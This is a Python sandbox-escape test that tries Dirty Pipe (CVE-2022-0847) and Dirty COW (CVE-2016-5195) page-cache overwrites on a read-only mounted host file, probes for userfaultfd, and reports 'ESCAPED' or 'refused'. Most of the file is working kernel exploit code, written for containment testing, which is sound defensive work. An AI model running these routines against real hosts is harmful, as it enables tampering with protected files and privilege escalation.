"""A page of a file that can only be read is changed in the page cache that the host
shares: by splice into a pipe that then takes more (Dirty Pipe, CVE-2022-0847),
by a race of MADV_DONTNEED with a write to /proc/self/mem (Dirty COW,
CVE-2016-5195), by userfaultfd on shared memory.

Blocked by the kernel's fixes; of what they use userfaultfd, vmsplice without a
memory cgroup and a writable /proc/self/mem are refused.
"""
import ctypes
import mmap
import os
import sys
import threading
import time

WANTS = None
BARE_CANNOT = "every kernel that Debian 12 ships has both faults fixed"
NEEDS = ("host_tree",)
OPTIONS = ("--workspace", "{host_tree}:ro")
CHECK = "planted_nothing"

given = dict(word.split("=", 1) for word in sys.argv[1:])
path = os.path.join(given["host_tree"], "shared")
libc = ctypes.CDLL(None, use_errno=True)


def dirty_pipe(fd):
    r, w = os.pipe()
    size = 65536
    os.write(w, b"x" * size)  # every slot may be merged into
    os.read(r, size)
    offset = ctypes.c_longlong(0)
    libc.splice(fd, ctypes.byref(offset), w, None, 1, 0)
    os.write(w, b"CHANGED BY A PIPE")
    os.close(r)
    os.close(w)


def dirty_cow(fd):
    m = mmap.mmap(fd, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    libc.mmap.restype = ctypes.c_void_p
    at = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, fd, ctypes.c_long(0))
    end = time.monotonic() + 0.5

    def forget():
        while time.monotonic() < end:
            libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(4096), 4)

    thread = threading.Thread(target=forget)
    thread.start()
    try:
        mem = os.open("/proc/self/mem", os.O_RDWR)
        while time.monotonic() < end:
            os.pwrite(mem, b"CHANGED BY A RACE", at)
    except OSError as e:
        return e.strerror
    finally:
        thread.join()
        m.close()
    return "written to a private page"


fd = os.open(path, os.O_RDONLY)
dirty_pipe(fd)
why = dirty_cow(fd)
with open(path, "rb") as f:
    text = f.read(64)
if b"CHANGED" in text:
    print("ESCAPED:", text)
elif libc.syscall(323, 0) >= 0 or libc.syscall(323, 1) >= 0:
    print("ESCAPED: userfaultfd, which makes such races wide")
else:
    print("refused:", why)
